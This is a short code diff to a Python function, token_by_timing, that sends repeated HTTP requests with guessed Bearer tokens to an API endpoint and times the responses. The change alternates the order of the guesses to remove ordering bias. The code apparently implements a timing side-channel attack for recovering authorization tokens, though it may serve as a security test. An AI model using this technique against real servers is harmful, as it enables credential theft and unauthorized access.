@@ -100,8 +100,9 @@ def token_by_timing(server: Server) -> str | None:
     }
     taken: dict[str, list[float]] = {name: [] for name in guesses}
     with server.connect() as connection:
-        for _ in range(400):
-            for name, guess in guesses.items():
+        for turn in range(400):
+            # Which of the two is asked first changes: the second of a pair may be quicker or slower for that alone.
+            for name, guess in list(guesses.items())[:: 1 if turn % 2 else -1]:
                 asked = (
                     f"GET /v1/models HTTP/1.1\r\nHost: {server.host}\r\nAuthorization: Bearer {guess}\r\n\r\n".encode()
                 )
